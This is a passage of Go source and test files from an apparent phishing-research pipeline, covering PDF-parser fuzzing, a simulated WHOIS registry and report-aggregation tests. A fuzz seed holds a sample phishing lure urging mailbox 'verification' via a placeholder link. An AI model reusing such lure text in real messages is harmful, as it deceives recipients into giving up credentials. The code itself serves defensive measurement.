		TextLines: []string{"Your mailbox is almost full", "Verify your account now"},
		LinkURIs:  []string{"https://login-verify.example/q?t=abc"},
	}}}
	plain := Build(doc, false)
	compressed := Build(doc, true)
	f.Add(plain)
	f.Add(compressed)
	f.Add(plain[:len(plain)/2])
	f.Add(bytes.Replace(compressed, []byte("stream"), []byte("strean"), 1))
	f.Add([]byte("%PDF-1.4\n1 0 obj\n<< /Type /Action /URI (https://x.example) >>\nendobj\n"))
	f.Add([]byte("%PDF-1.4\n1 0 obj\n<< /Length 99999 >>\nstream\nshort\nendstream\nendobj\n"))
	f.Add([]byte("not a pdf at all"))
	f.Add([]byte{})
	f.Fuzz(func(t *testing.T, data []byte) {
		p, err := Parse(data)
		if err == nil && p == nil {
			t.Fatal("Parse returned nil *Parsed with nil error")
		}
	})
}
