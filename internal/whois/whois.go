// Package whois simulates the domain registration registry that CrawlerBox
// queries during enrichment. Each record carries the attributes the paper's
// deployment-timeline analysis joins on: registration time, registrar, and
// provenance (registered fresh by the attacker, a compromised legitimate
// domain, or an abused hosting service subdomain).
package whois

import (
	"errors"
	"sort"
	"strings"
	"sync"
	"time"
)

// Provenance classifies how a phishing domain came to exist — the paper's
// outlier analysis splits its 71 long-lead domains into exactly these
// classes (42 fresh, 20 compromised small businesses, 9 abused services).
type Provenance int

// Provenance classes.
const (
	ProvenanceFresh Provenance = iota + 1
	ProvenanceCompromised
	ProvenanceAbusedService
)

// String names the provenance.
func (p Provenance) String() string {
	switch p {
	case ProvenanceFresh:
		return "fresh"
	case ProvenanceCompromised:
		return "compromised"
	case ProvenanceAbusedService:
		return "abused-service"
	default:
		return "unknown"
	}
}

// Record is one WHOIS registration entry.
type Record struct {
	Domain     string
	Registrar  string
	Registered time.Time
	Provenance Provenance
}

// ErrNotFound indicates the domain has no registration record.
var ErrNotFound = errors.New("whois: no record")

// Registry is a thread-safe in-memory WHOIS database.
type Registry struct {
	mu sync.Mutex
	// records maps lowercase registrable domain to its entry.
	records map[string]Record // guarded by mu
}

// NewRegistry returns an empty registry.
func NewRegistry() *Registry {
	return &Registry{records: map[string]Record{}}
}

// Register inserts or replaces a record.
func (r *Registry) Register(rec Record) {
	r.mu.Lock()
	defer r.mu.Unlock()
	rec.Domain = strings.ToLower(rec.Domain)
	r.records[rec.Domain] = rec
}

// Lookup returns the record for a registrable domain.
func (r *Registry) Lookup(domain string) (Record, error) {
	r.mu.Lock()
	defer r.mu.Unlock()
	rec, ok := r.records[strings.ToLower(domain)]
	if !ok {
		return Record{}, ErrNotFound
	}
	return rec, nil
}

// Age returns how long the domain had been registered as of `at`.
func (r *Registry) Age(domain string, at time.Time) (time.Duration, error) {
	rec, err := r.Lookup(domain)
	if err != nil {
		return 0, err
	}
	return at.Sub(rec.Registered), nil
}

// NewDomainThreshold is the industry "new domain" reputation window the
// paper cites: domains younger than 90 days get low reputation scores.
const NewDomainThreshold = 90 * 24 * time.Hour

// IsNewDomain reports whether the domain is inside the low-reputation
// window at the given time.
func (r *Registry) IsNewDomain(domain string, at time.Time) (bool, error) {
	age, err := r.Age(domain, at)
	if err != nil {
		return false, err
	}
	return age < NewDomainThreshold, nil
}

// All returns a copy of every record, sorted by domain so callers that
// render or aggregate the registry see a stable order.
func (r *Registry) All() []Record {
	r.mu.Lock()
	defer r.mu.Unlock()
	domains := make([]string, 0, len(r.records))
	for d := range r.records {
		domains = append(domains, d)
	}
	sort.Strings(domains)
	out := make([]Record, 0, len(domains))
	for _, d := range domains {
		out = append(out, r.records[d])
	}
	return out
}

// RussianRegistrars are the .ru registrars observed in the corpus.
var RussianRegistrars = []string{
	"REGRU-RU", "R01-RU", "RU-CENTER-RU", "REGTIME-RU", "OPENPROV-RU",
}
