package whois

import (
	"errors"
	"testing"
	"time"
)

var _epoch = time.Date(2024, 1, 1, 0, 0, 0, 0, time.UTC)

func TestRegisterLookup(t *testing.T) {
	r := NewRegistry()
	r.Register(Record{Domain: "Evil-Site.com", Registrar: "REGRU-RU",
		Registered: _epoch, Provenance: ProvenanceFresh})
	rec, err := r.Lookup("evil-site.COM")
	if err != nil {
		t.Fatal(err)
	}
	if rec.Registrar != "REGRU-RU" || rec.Provenance != ProvenanceFresh {
		t.Errorf("rec = %+v", rec)
	}
	if _, err := r.Lookup("absent.com"); !errors.Is(err, ErrNotFound) {
		t.Errorf("err = %v", err)
	}
}

func TestAgeAndNewDomainWindow(t *testing.T) {
	r := NewRegistry()
	r.Register(Record{Domain: "young.com", Registered: _epoch})
	r.Register(Record{Domain: "old.com", Registered: _epoch.Add(-200 * 24 * time.Hour)})

	at := _epoch.Add(24 * 24 * time.Hour) // the paper's median lead: ~24 days
	age, err := r.Age("young.com", at)
	if err != nil {
		t.Fatal(err)
	}
	if age != 24*24*time.Hour {
		t.Errorf("age = %v", age)
	}
	isNew, err := r.IsNewDomain("young.com", at)
	if err != nil || !isNew {
		t.Errorf("young.com should still be 'new' at 24 days (within the 90-day window)")
	}
	isNew, err = r.IsNewDomain("old.com", at)
	if err != nil || isNew {
		t.Errorf("old.com must be outside the new-domain window")
	}
	if _, err := r.Age("absent.com", at); !errors.Is(err, ErrNotFound) {
		t.Errorf("err = %v", err)
	}
}

func TestAdvanceRegistrationBeatsReputation(t *testing.T) {
	// The paper's core timeline finding: attackers register domains well
	// in advance, so at delivery time the domain has aged out of the
	// "new domain" reputation penalty.
	r := NewRegistry()
	delivery := _epoch.Add(300 * 24 * time.Hour)
	r.Register(Record{Domain: "patient-attacker.com",
		Registered: delivery.Add(-120 * 24 * time.Hour), Provenance: ProvenanceFresh})
	r.Register(Record{Domain: "rushed-attacker.com",
		Registered: delivery.Add(-2 * 24 * time.Hour), Provenance: ProvenanceFresh})
	patientNew, _ := r.IsNewDomain("patient-attacker.com", delivery)
	rushedNew, _ := r.IsNewDomain("rushed-attacker.com", delivery)
	if patientNew {
		t.Error("120-day-old domain must have escaped the reputation window")
	}
	if !rushedNew {
		t.Error("2-day-old domain must still be flagged new")
	}
}

func TestAllAndProvenanceNames(t *testing.T) {
	r := NewRegistry()
	r.Register(Record{Domain: "a.com", Provenance: ProvenanceFresh})
	r.Register(Record{Domain: "b.com", Provenance: ProvenanceCompromised})
	r.Register(Record{Domain: "c.dev", Provenance: ProvenanceAbusedService})
	if len(r.All()) != 3 {
		t.Errorf("All = %d", len(r.All()))
	}
	names := map[Provenance]string{
		ProvenanceFresh:         "fresh",
		ProvenanceCompromised:   "compromised",
		ProvenanceAbusedService: "abused-service",
		Provenance(9):           "unknown",
	}
	for p, want := range names {
		if p.String() != want {
			t.Errorf("%d.String() = %q", p, p.String())
		}
	}
}

func TestRussianRegistrarsList(t *testing.T) {
	if len(RussianRegistrars) != 5 {
		t.Errorf("the corpus names 5 .ru registrars, list has %d", len(RussianRegistrars))
	}
}
