package report

import (
	"context"
	"testing"

	"crawlerbox/internal/dataset"
)

// TestStreamedAnalyzeWorkerIndependent pins the streamed half of the
// determinism contract: a corpus built by dataset.Stream (no retained
// Analyses, aggregates served purely from merged shards) renders every
// artifact byte-identically at workers=1 and workers=8. Run under -race
// this also exercises the producer/worker-shard handoff for data races.
func TestStreamedAnalyzeWorkerIndependent(t *testing.T) {
	renderAll := func(r *Run) []string {
		return []string{
			r.RenderDisposition(),
			r.RenderFigure2(),
			r.RenderTable2(),
			r.RenderFigure3(),
			r.RenderSpear(),
			r.RenderNonTargeted(),
			r.RenderCloaks(),
		}
	}
	analyze := func(workers int) []string {
		c, err := dataset.Stream(dataset.Config{Seed: 42, Scale: 0.1})
		if err != nil {
			t.Fatal(err)
		}
		run, err := Analyze(context.Background(), c, WithWorkers(workers))
		if err != nil {
			t.Fatal(err)
		}
		if run.Analyses != nil {
			t.Fatalf("streamed run retained %d analyses", len(run.Analyses))
		}
		return renderAll(run)
	}

	serial := analyze(1)
	parallel := analyze(8)
	for i := range serial {
		if serial[i] != parallel[i] {
			t.Errorf("artifact %d diverges between workers=1 and workers=8:\n--- serial ---\n%s\n--- parallel ---\n%s",
				i, serial[i], parallel[i])
		}
	}
}
