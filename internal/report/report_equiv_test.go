package report

import (
	"sort"
	"sync"
	"testing"
	"time"

	"crawlerbox/internal/crawlerbox"
	"crawlerbox/internal/stats"
	"crawlerbox/internal/urlx"
	"crawlerbox/internal/whois"
)

// This file pins the memoized census to the original per-call aggregation
// semantics: every legacy* function below is a verbatim transplant of the
// pre-census Run method (each one a full scan over r.Analyses), and the
// tests assert that the census-backed methods render byte-identical output.

// legacyLandingDomains groups active-phish analyses by registrable landing
// domain (the original Run.landingDomains).
func legacyLandingDomains(r *Run) map[string][]*crawlerbox.MessageAnalysis {
	out := map[string][]*crawlerbox.MessageAnalysis{}
	for _, ma := range r.Analyses {
		if ma == nil || ma.Outcome != crawlerbox.OutcomeActivePhish || ma.Landing == nil {
			continue
		}
		out[ma.Landing.Registrable] = append(out[ma.Landing.Registrable], ma)
	}
	return out
}

func legacyDisposition(r *Run) []DispositionRow {
	counts := map[string]int{}
	total := 0
	for _, ma := range r.Analyses {
		if ma == nil {
			continue
		}
		total++
		label := ma.Outcome.String()
		if ma.Outcome == crawlerbox.OutcomeCloaked {
			label = crawlerbox.OutcomeError.String()
		}
		counts[label]++
	}
	return dispositionRows(counts, total)
}

func legacyMonthlySeries(r *Run) [10]int {
	var out [10]int
	for _, m := range r.Corpus.Messages {
		if m.Month >= 0 && m.Month < 10 {
			out[m.Month]++
		}
	}
	return out
}

func legacyTable2(r *Run) []urlx.TLDCount {
	var hosts []string
	for _, ma := range r.Analyses {
		if ma == nil || ma.Landing == nil {
			continue
		}
		hosts = append(hosts, ma.Landing.Host)
	}
	hosts = dedupe(hosts)
	return urlx.TLDDistribution(hosts)
}

func legacyFigure3(r *Run) (TimelineStats, error) {
	groups := legacyLandingDomains(r)
	var deltaA, deltaB []float64
	for _, analyses := range groups {
		var sumUnix int64
		var reg, cert time.Time
		var haveReg, haveCert bool
		for _, ma := range analyses {
			sumUnix += ma.AnalyzedAt.Unix()
			if ma.Landing.Whois != nil {
				reg = ma.Landing.Whois.Registered
				haveReg = true
			}
			if ma.Landing.Cert != nil {
				cert = ma.Landing.Cert.IssuedAt
				haveCert = true
			}
		}
		avgDelivery := time.Unix(sumUnix/int64(len(analyses)), 0)
		if haveReg {
			deltaA = append(deltaA, avgDelivery.Sub(reg).Hours())
		}
		if haveCert {
			deltaB = append(deltaB, avgDelivery.Sub(cert).Hours())
		}
	}
	out := TimelineStats{DomainCount: len(groups)}
	const ninetyDaysHours = 90 * 24
	fill := func(xs []float64, hist *[9]int, over *int) {
		for _, x := range xs {
			if x >= ninetyDaysHours {
				*over++
				continue
			}
			bin := int(x / (10 * 24))
			if bin < 0 {
				bin = 0
			}
			if bin > 8 {
				bin = 8
			}
			hist[bin]++
		}
	}
	fill(deltaA, &out.HistA, &out.OverA)
	fill(deltaB, &out.HistB, &out.OverB)
	var err error
	if out.MedianAHours, err = stats.Median(deltaA); err != nil {
		return out, err
	}
	if out.MedianBHours, err = stats.Median(deltaB); err != nil {
		return out, err
	}
	if out.KurtosisA, err = stats.Kurtosis(deltaA); err != nil {
		return out, err
	}
	if out.KurtosisB, err = stats.Kurtosis(deltaB); err != nil {
		return out, err
	}
	return out, nil
}

func legacySpear(r *Run) SpearStats {
	out := SpearStats{}
	urls := map[string]bool{}
	for _, ma := range r.Analyses {
		if ma == nil || ma.Outcome != crawlerbox.OutcomeActivePhish {
			continue
		}
		out.Active++
		if ma.SpearPhish {
			out.Spear++
			if ma.HotLoadsRef || hotLoads(ma) {
				out.HotLoad++
			}
		}
		if ma.Landing != nil {
			urls[ma.Landing.URL] = true
		}
	}
	groups := legacyLandingDomains(r)
	out.DistinctDomains = len(groups)
	out.DistinctURLs = len(urls)
	if out.Active > 0 {
		out.SpearPercent = 100 * float64(out.Spear) / float64(out.Active)
	}
	if out.Spear > 0 {
		out.HotLoadPercent = 100 * float64(out.HotLoad) / float64(out.Spear)
	}
	var counts []float64
	maxC := 0
	for _, g := range groups {
		counts = append(counts, float64(len(g)))
		if len(g) > maxC {
			maxC = len(g)
		}
	}
	out.MaxMsgsPerDomain = maxC
	out.MeanMsgsPerDomain = stats.Mean(counts)
	out.MedianMsgsPerDomain, _ = stats.Median(counts)
	return out
}

func legacyDNSVolumes(r *Run) DNSStats {
	groups := legacyLandingDomains(r)
	var st, sm, mt, mm []float64
	var totals []int
	for _, analyses := range groups {
		first := analyses[0]
		if first.Landing.Whois != nil && first.Landing.Whois.Provenance != whois.ProvenanceFresh {
			continue
		}
		total := float64(first.Landing.DNS30DayTotal)
		maxDaily := float64(first.Landing.DNSMaxDaily)
		totals = append(totals, first.Landing.DNS30DayTotal)
		if len(analyses) == 1 {
			st = append(st, total)
			sm = append(sm, maxDaily)
		} else {
			mt = append(mt, total)
			mm = append(mm, maxDaily)
		}
	}
	sort.Sort(sort.Reverse(sort.IntSlice(totals)))
	if len(totals) > 3 {
		totals = totals[:3]
	}
	out := DNSStats{Top3Totals: totals}
	out.SingleMedianTotal, _ = stats.Median(st)
	out.SingleMedianMax, _ = stats.Median(sm)
	out.MultiMedianTotal, _ = stats.Median(mt)
	out.MultiMedianMax, _ = stats.Median(mm)
	return out
}

func legacyDomainSyntax(r *Run) SyntaxStats {
	analyzer := urlx.NewDeceptionAnalyzer([]string{
		"acme", "acmetraveltech", "skybooker", "farewell", "transitgo",
		"payroute", "microsoft", "onedrive", "office", "docusign", "excel",
	})
	seen := map[string]bool{}
	out := SyntaxStats{}
	for _, ma := range r.Analyses {
		if ma == nil || ma.Landing == nil || seen[ma.Landing.Host] {
			continue
		}
		seen[ma.Landing.Host] = true
		out.Domains++
		techniques := analyzer.Analyze(ma.Landing.Host)
		if len(techniques) > 0 {
			out.Deceptive++
		}
		for _, tech := range techniques {
			if tech == urlx.DeceptionPunycode {
				out.Punycode++
			}
		}
	}
	if out.Domains > 0 {
		out.Percent = 100 * float64(out.Deceptive) / float64(out.Domains)
	}
	return out
}

func legacyCloakPrevalence(r *Run) []CloakRow {
	counts := map[string]int{}
	for _, ma := range r.Analyses {
		if ma == nil {
			continue
		}
		countCloaks(counts, ma)
	}
	return cloakRows(counts)
}

func legacyNonTargetedBrands(r *Run) []BrandRow {
	counts := map[string]int{}
	seen := map[string]bool{}
	for _, ma := range r.Analyses {
		if ma == nil || ma.Outcome != crawlerbox.OutcomeActivePhish ||
			ma.SpearPhish || ma.Landing == nil || seen[ma.Landing.Registrable] {
			continue
		}
		seen[ma.Landing.Registrable] = true
		counts[brandOfTitle(landingTitle(ma))]++
	}
	return brandRows(counts)
}

func legacyTurnstileShare(r *Run) (turnstilePct, recaptchaPct float64) {
	var cred, ts, rc int
	for _, ma := range r.Analyses {
		if ma == nil || ma.Outcome != crawlerbox.OutcomeActivePhish {
			continue
		}
		cred++
		if ma.Cloaks.Turnstile {
			ts++
		}
		if ma.Cloaks.ReCaptcha {
			rc++
		}
	}
	if cred == 0 {
		return 0, 0
	}
	return 100 * float64(ts) / float64(cred), 100 * float64(rc) / float64(cred)
}

// TestCensusMatchesLegacyAggregates renders every aggregate through both
// the memoized census and the original per-call scan, and asserts the
// bytes are identical.
func TestCensusMatchesLegacyAggregates(t *testing.T) {
	run := sharedRun(t)
	legacyTS, legacyRC := legacyTurnstileShare(run)
	legacyF3, legacyF3Err := legacyFigure3(run)
	for name, pair := range map[string][2]string{
		"disposition": {run.RenderDisposition(), formatDisposition(legacyDisposition(run))},
		"table2":      {run.RenderTable2(), formatTable2(legacyTable2(run))},
		"figure3":     {run.RenderFigure3(), formatFigure3(legacyF3, legacyF3Err)},
		"spear": {run.RenderSpear(),
			formatSpear(legacySpear(run), legacyDNSVolumes(run), legacyDomainSyntax(run))},
		"cloaks":      {run.RenderCloaks(), formatCloaks(legacyCloakPrevalence(run), legacyTS, legacyRC)},
		"nontargeted": {run.RenderNonTargeted(), formatNonTargeted(legacyNonTargetedBrands(run))},
	} {
		if pair[0] != pair[1] {
			t.Errorf("%s: census and legacy aggregates render differently\ncensus:\n%s\nlegacy:\n%s",
				name, pair[0], pair[1])
		}
	}
	if got, want := run.MonthlySeries(), legacyMonthlySeries(run); got != want {
		t.Errorf("monthly series: census %v, legacy %v", got, want)
	}
}

// TestCensusRepeatedCallsStable asserts the memoized aggregates render
// identically on every call (the copy-out must not expose shared state).
func TestCensusRepeatedCallsStable(t *testing.T) {
	run := sharedRun(t)
	first := run.RenderSpear() + run.RenderTable2() + run.RenderCloaks()
	// Mutate the returned copies; the census must be unaffected.
	if rows := run.Table2(); len(rows) > 0 {
		rows[0] = urlx.TLDCount{TLD: ".poisoned", Count: 999, Percent: 99}
	}
	if rows := run.CloakPrevalence(); len(rows) > 0 {
		rows[0].Technique = "poisoned"
	}
	if d := run.DNSVolumes(); len(d.Top3Totals) > 0 {
		d.Top3Totals[0] = -1
	}
	second := run.RenderSpear() + run.RenderTable2() + run.RenderCloaks()
	if first != second {
		t.Errorf("aggregates drift across calls:\nfirst:\n%s\nsecond:\n%s", first, second)
	}
}

// TestCensusConcurrentAccess hammers every aggregate method from many
// goroutines on a fresh Run, so `go test -race` proves the lazily built
// census is safe under concurrent first use.
func TestCensusConcurrentAccess(t *testing.T) {
	run := sharedRun(t)
	// Reset memoization on a shallow copy so the goroutines race to build.
	fresh := &Run{Corpus: run.Corpus, Analyses: run.Analyses, Errors: run.Errors}
	want := run.RenderDisposition() + run.RenderSpear() + run.RenderCloaks()
	var wg sync.WaitGroup
	errs := make(chan string, 64)
	for i := 0; i < 16; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			got := fresh.RenderDisposition() + fresh.RenderSpear() + fresh.RenderCloaks()
			if got != want {
				errs <- got
			}
			_ = fresh.Disposition()
			_, _ = fresh.Figure3()
			_ = fresh.Table2()
			_ = fresh.DNSVolumes()
			_ = fresh.DomainSyntax()
			_ = fresh.CloakPrevalence()
			_ = fresh.NonTargetedBrands()
			_, _ = fresh.TurnstileShare()
			_ = fresh.MonthlySeries()
			_ = fresh.HotLoadReferrals()
		}()
	}
	wg.Wait()
	close(errs)
	if bad, ok := <-errs; ok {
		if len(bad) > 400 {
			bad = bad[:400]
		}
		t.Errorf("concurrent aggregate diverged:\n%s", bad)
	}
}

// TestHotLoadReferralsMatchesLedgerScan pins the zero-copy iterator count
// to a full Traffic() copy scan.
func TestHotLoadReferralsMatchesLedgerScan(t *testing.T) {
	run := sharedRun(t)
	want := 0
	for _, e := range run.Corpus.Net.Traffic() {
		if e.Request.Path == "/assets/logo.png" && e.Request.Header("Referer") != "" {
			want++
		}
	}
	if got := run.HotLoadReferrals(); got != want {
		t.Errorf("HotLoadReferrals = %d, ledger scan = %d", got, want)
	}
}
