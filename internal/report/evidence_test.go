package report

import (
	"context"
	"path/filepath"
	"testing"

	"crawlerbox/internal/dataset"
	"crawlerbox/internal/evstore"
)

// TestEvidenceStoreEquivalence pins the WithEvidenceStore contract: spilling
// evidence to disk changes where the bytes live, never what the run reports.
// A streamed, spilled run must render every artifact byte-identically to a
// slice-backed, fully in-RAM run of the same seed.
func TestEvidenceStoreEquivalence(t *testing.T) {
	render := func(r *Run) map[string]string {
		return map[string]string{
			"disposition": r.RenderDisposition(),
			"fig2":        r.RenderFigure2(),
			"table2":      r.RenderTable2(),
			"fig3":        r.RenderFigure3(),
			"spear":       r.RenderSpear(),
			"nontargeted": r.RenderNonTargeted(),
			"cloaks":      r.RenderCloaks(),
		}
	}

	cfg := dataset.Config{Seed: 42, Scale: 0.1}
	ram, err := dataset.Generate(cfg)
	if err != nil {
		t.Fatal(err)
	}
	ramRun, err := Analyze(context.Background(), ram, WithWorkers(4))
	if err != nil {
		t.Fatal(err)
	}

	spilled, err := dataset.Stream(cfg)
	if err != nil {
		t.Fatal(err)
	}
	store, err := evstore.Create(filepath.Join(t.TempDir(), "ev.bin"))
	if err != nil {
		t.Fatal(err)
	}
	defer store.Close()
	spillRun, err := Analyze(context.Background(), spilled, WithWorkers(4), WithEvidenceStore(store))
	if err != nil {
		t.Fatal(err)
	}

	want, got := render(ramRun), render(spillRun)
	for key := range want {
		if want[key] != got[key] {
			t.Errorf("%s diverges between in-RAM and spilled runs:\n--- ram ---\n%s\n--- spilled ---\n%s", key, want[key], got[key])
		}
	}
	// HotLoadReferrals scans the traffic ledger, so it exercises the
	// spilled EachTraffic decode path end to end.
	if a, b := ramRun.HotLoadReferrals(), spillRun.HotLoadReferrals(); a != b {
		t.Errorf("HotLoadReferrals: ram %d, spilled %d", a, b)
	}
	if a, b := ram.Net.TrafficLen(), spilled.Net.TrafficLen(); a != b {
		t.Errorf("TrafficLen: ram %d, spilled %d", a, b)
	}
	if store.Size() <= 8 {
		t.Error("evidence store stayed empty — nothing spilled")
	}
	if spillRun.Errors != ramRun.Errors {
		t.Errorf("Errors: ram %d, spilled %d", ramRun.Errors, spillRun.Errors)
	}
}

// TestEvidenceStoreStripsVisits checks that a slice-backed spilled run hands
// back analyses whose bulky evidence has moved to the store: Visits nil,
// handle valid, record readable.
func TestEvidenceStoreStripsVisits(t *testing.T) {
	c, err := dataset.Generate(dataset.Config{Seed: 7, Scale: 0.05})
	if err != nil {
		t.Fatal(err)
	}
	store, err := evstore.Create(filepath.Join(t.TempDir(), "ev.bin"))
	if err != nil {
		t.Fatal(err)
	}
	defer store.Close()
	run, err := Analyze(context.Background(), c, WithWorkers(2), WithEvidenceStore(store))
	if err != nil {
		t.Fatal(err)
	}
	var spilled int
	for i, ma := range run.Analyses {
		if ma == nil {
			continue
		}
		if ma.Visits != nil {
			t.Fatalf("analysis %d retained %d visits after spill", i, len(ma.Visits))
		}
		if !ma.Evidence.Valid() {
			continue // messages with no URL never visit anything
		}
		kind, payload, err := store.At(ma.Evidence)
		if err != nil {
			t.Fatalf("analysis %d: reading evidence: %v", i, err)
		}
		if kind != evstore.KindAnalysis || len(payload) == 0 {
			t.Fatalf("analysis %d: kind=%d len=%d", i, kind, len(payload))
		}
		spilled++
	}
	if spilled == 0 {
		t.Fatal("no analysis spilled evidence")
	}
}
