// Package report runs the CrawlerBox pipeline over a generated corpus and
// aggregates the paper's tables and figures: the message-disposition
// breakdown, Figure 2's monthly series with the 2023-vs-2024 paired t-test,
// Table II's TLD distribution, Figure 3's deployment-timeline histograms
// with medians and kurtosis, the passive-DNS volume medians, the
// domain-syntax census, the spear-phishing and hot-loading shares, and the
// cloaking-prevalence table.
//
// Every aggregate is served from a memoized census index derived from a
// CensusShard — a commutative partial fold of the analyses. Analyze streams
// message specs through the worker pool and each worker folds its own
// shard, so census state is O(domains), not O(corpus); repeated aggregate
// calls — the paper's workload, where each table and figure re-queries the
// same analyzed corpus — cost a copy of the precomputed rows instead of a
// full corpus re-scan.
package report

import (
	"context"
	"fmt"
	"sort"
	"strings"
	"sync"
	"time"

	"crawlerbox/internal/browser"
	"crawlerbox/internal/crawlerbox"
	"crawlerbox/internal/dataset"
	"crawlerbox/internal/evstore"
	"crawlerbox/internal/htmlx"
	"crawlerbox/internal/obs"
	"crawlerbox/internal/resilience"
	"crawlerbox/internal/stats"
	"crawlerbox/internal/tracestore"
	"crawlerbox/internal/urlx"
	"crawlerbox/internal/webnet"
)

// Run couples a corpus with its per-message pipeline analyses.
type Run struct {
	Corpus *dataset.Corpus
	// Analyses holds the per-message analyses in corpus order (nil entries
	// for failed messages). A streamed run (dataset.Stream) leaves it nil —
	// the census is served from the merged shard instead, so analyses never
	// accumulate in memory.
	Analyses []*crawlerbox.MessageAnalysis
	// Errors counts messages whose analysis failed outright.
	Errors int

	// shard is the merged census partial folded during Analyze. When nil
	// (manually assembled Runs), buildCensus folds Analyses on demand.
	shard *CensusShard

	// censusOnce guards the lazily built census index. The index is
	// immutable once built, so any number of goroutines may call the
	// aggregate methods concurrently.
	censusOnce sync.Once
	census     *census
}

// options collects the Analyze configuration assembled by Option values.
type options struct {
	workers      int
	observer     *obs.Observer
	resilience   *resilience.Policy
	evidence     *evstore.Store
	tracestore   *tracestore.Writer
	evidencePath string
	tracePath    string
}

// Option configures one aspect of an Analyze run.
type Option func(*options)

// WithWorkers sets the analysis worker-pool size (default 1, i.e. serial).
// Because each message runs on a private clock fork with a seed stream keyed
// by its corpus index, the aggregated Run is bitwise identical for every
// worker count.
func WithWorkers(n int) Option {
	return func(o *options) { o.workers = n }
}

// WithObserver wires observability into the run: the pipeline records a
// trace per message and the corpus network feeds the observer's metrics
// registry. A nil observer disables both (the default). Because span
// timelines read each analysis's private clock fork and metrics use only
// commutative operations, the observer's exports are byte-identical for
// every worker count.
func WithObserver(o *obs.Observer) Option {
	return func(op *options) { op.observer = o }
}

// WithResilience arms the deterministic fault-and-recovery layer: each
// message draws a seeded fault schedule from the policy and recovers via
// virtual-clock retries and per-host circuit breakers. A nil policy leaves
// the layer disarmed (the default).
func WithResilience(p *resilience.Policy) Option {
	return func(o *options) { o.resilience = p }
}

// WithEvidencePath spills bulky evidence to an on-disk store at path: each
// analysis's visit records (markup, screenshots, request logs) are encoded
// into one checksummed record — addressed afterwards by the analysis's
// Evidence handle — and the corpus network's exchange ledger appends to the
// same store instead of RAM. The spill happens after the worker's shard has
// folded the analysis, so every aggregate is identical with or without a
// store; only the residency of the evidence changes. Analyze owns the
// store's whole lifecycle: it creates the file and closes it before
// returning. An empty path disables spilling (the default).
func WithEvidencePath(path string) Option {
	return func(o *options) { o.evidencePath = path }
}

// WithTraceStorePath persists the run's triage index at path: each
// message's verdict row (outcome, domains, cloak flags, and the visit
// facts the Classify stage adjudicated from) plus its span tree land in a
// segment Analyze creates, finalizes, and closes — queryable afterwards
// with `obsreport -store`. Implies observability: when no WithObserver is
// given, Analyze creates an internal observer so span trees and metrics
// exist to persist. The segment bytes are canonical — identical for every
// worker count. An empty path disables the store (the default).
func WithTraceStorePath(path string) Option {
	return func(o *options) { o.tracePath = path }
}

// WithEvidenceStore spills evidence to a caller-owned store.
//
// Deprecated: use WithEvidencePath — Analyze then owns the store's
// create/close lifecycle. This option remains for callers that must
// share one store across runs; they keep responsibility for Close.
func WithEvidenceStore(s *evstore.Store) Option {
	return func(o *options) { o.evidence = s }
}

// WithTraceStore persists the triage index into a caller-owned writer.
//
// Deprecated: use WithTraceStorePath — Analyze then owns the writer's
// create/finalize/close lifecycle. This option remains for callers that
// pre-create the writer; Analyze still finalizes it, the caller defers
// Close for the abort path.
func WithTraceStore(w *tracestore.Writer) Option {
	return func(o *options) { o.tracestore = w }
}

// Analyze runs the pipeline over the corpus and aggregates the Run. Each
// message is analyzed at its delivery time plus the paper's two-hour
// reporting lag, on a private fork of the virtual clock, with a seed stream
// keyed by its corpus index — so the aggregated Run is bitwise identical for
// every worker count. The context cancels the run; messages not yet analyzed
// at cancellation are counted in Run.Errors.
//
// Messages stream through the bounded worker pool one at a time — the
// producer renders specs on demand (Corpus.Each) and each worker folds its
// results into a private CensusShard — so peak memory is O(workers), not
// O(corpus). For a corpus built by dataset.Stream, Run.Analyses stays nil
// and every aggregate is served from the merged shard; a corpus built by
// dataset.Generate additionally retains the analyses for callers that
// inspect them directly.
//
// Analyze is the single entry point; concurrency, observability, and fault
// injection are all opt-in through WithWorkers, WithObserver, and
// WithResilience.
func Analyze(ctx context.Context, c *dataset.Corpus, opts ...Option) (*Run, error) {
	op := options{workers: 1}
	for _, o := range opts {
		o(&op)
	}
	workers := op.workers
	if workers < 1 {
		workers = 1
	}
	// Path-based options: Analyze owns the whole lifecycle of the stores it
	// creates (the deprecated object-based options leave ownership with the
	// caller).
	if op.evidencePath != "" && op.evidence == nil {
		st, err := evstore.Create(op.evidencePath)
		if err != nil {
			return nil, fmt.Errorf("report: evidence store: %w", err)
		}
		defer st.Close()
		op.evidence = st
	}
	if op.tracePath != "" && op.tracestore == nil {
		w, err := tracestore.Create(op.tracePath)
		if err != nil {
			return nil, fmt.Errorf("report: trace store: %w", err)
		}
		// No-op after the Finalize below succeeds; aborts the segment on
		// every error path.
		defer w.Close()
		op.tracestore = w
	}
	pipe := crawlerbox.New(c.Net, c.Registry)
	if op.tracestore != nil && op.observer == nil {
		// The trace store persists span trees and metrics, so it needs an
		// observer even when the caller didn't ask for live exports.
		op.observer = obs.New()
	}
	if op.observer != nil {
		pipe.Obs = op.observer
		c.Net.Metrics = op.observer.Metrics
	}
	pipe.Resilience = op.resilience
	if op.evidence != nil {
		c.Net.SpillTrafficTo(op.evidence)
	}
	brands := make([]string, 0, len(c.BrandURLs))
	for b := range c.BrandURLs {
		brands = append(brands, b)
	}
	sort.Strings(brands)
	for _, b := range brands {
		if err := pipe.AddReference(ctx, b, c.BrandURLs[b]); err != nil {
			return nil, fmt.Errorf("report: reference %s: %w", b, err)
		}
	}

	run := &Run{Corpus: c}
	retain := !c.Streamed()
	var analyses []*crawlerbox.MessageAnalysis
	if retain {
		analyses = make([]*crawlerbox.MessageAnalysis, c.Len())
	}

	// The producer streams specs into the bounded channel, folding the
	// monthly series as plans flow past; each worker folds its own shard.
	msgShard := NewCensusShard()
	shards := make([]*CensusShard, workers)
	errCounts := make([]int, workers)
	for i := range shards {
		shards[i] = NewCensusShard()
	}
	produced := 0
	specs := make(chan crawlerbox.IndexedSpec, workers)
	go func() {
		defer close(specs)
		c.Each(func(i int, m *dataset.Message) bool {
			msgShard.AddMessage(m)
			select {
			case specs <- crawlerbox.IndexedSpec{Index: i, Spec: crawlerbox.MessageSpec{
				Raw: m.Raw,
				ID:  int64(i + 1),
				At:  m.Delivered.Add(2 * time.Hour),
			}}:
				produced++
				return true
			case <-ctx.Done():
				return false
			}
		})
	}()
	pipe.AnalyzeStream(ctx, specs, workers, func(w int, res crawlerbox.CorpusResult) {
		if res.Err != nil {
			errCounts[w]++
			op.tracestore.Add(tracestore.VerdictOf(int64(res.Index+1), nil, res.Err))
			return
		}
